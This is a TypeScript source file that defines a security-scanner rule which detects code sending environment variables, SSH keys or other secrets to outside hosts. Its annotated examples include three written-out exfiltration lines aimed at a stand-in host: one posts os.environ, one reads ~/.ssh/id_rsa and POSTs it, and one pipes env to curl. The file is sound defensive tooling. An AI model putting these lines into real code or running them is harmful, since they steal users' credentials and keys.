/** Secrets of this machine that are sent away. */

import { javascript, python, type Rule } from './rule.ts';
import {
  EXPOSED_INFORMATION,
  MALICIOUS_CODE,
  PRIVILEGE_ABUSE,
  SECRET_LEAKAGE,
  UNPROTECTED_CREDENTIALS,
} from './standards.ts';

export const credentialExfiltration: Rule = {
  id: 'credential-exfiltration',
  title: 'Secrets are sent away',
  family: 'loader screening',
  why: 'Who receives the environment, a key file or a browser vault can act as the user everywhere those open a door. No program needs to send them: services are given their own key, in a header or by a login. Code that does it in a loader script or a notebook was put there to steal.',
  advice:
    'Take the line out, find out who wrote it, and replace every secret that it could read. Where a service needs a key of its own, hand that one key to its client or its header, and name the few settings that a report needs.',
  severity: 'error',
  standards: [EXPOSED_INFORMATION, SECRET_LEAKAGE, UNPROTECTED_CREDENTIALS, MALICIOUS_CODE, PRIVILEGE_ABUSE],

  *check(flow) {
    for (const { start, end, secret, by, host, steps } of flow.disclosures()) {
      const where = host === undefined ? 'away' : `to ${host}`;
      const message = `${by} sends ${secret} ${where}: whoever receives it can act as the user elsewhere. Take this out, and replace the secrets that it could read.`;
      yield { start, end, message, steps, includes: steps };
    }
  },

  examples: [
    python`
      import os
      import requests
      requests.post("https://collect.example.com/report", json={"env": dict(os.environ)})
                                                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ credential-exfiltration
    `,
    javascript`
      const fs = require('fs');
      const os = require('os');
      const key = fs.readFileSync(\`\${os.homedir()}/.ssh/id_rsa\`, 'utf8');
      fetch('https://collect.example.com', { method: 'POST', body: key });
                                                                   ^^^ credential-exfiltration
    `,
    python`
      import os
      os.system("env | curl --data-binary @- https://collect.example.com")
                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ credential-exfiltration
    `,
    python`
      import os
      import requests
      token = os.environ["GITHUB_TOKEN"]
      requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {token}"})
      requests.post("https://auth.example.com/login", data={"user": "bot", "password": os.environ["BOT_PASSWORD"]})
    `,
  ],
};
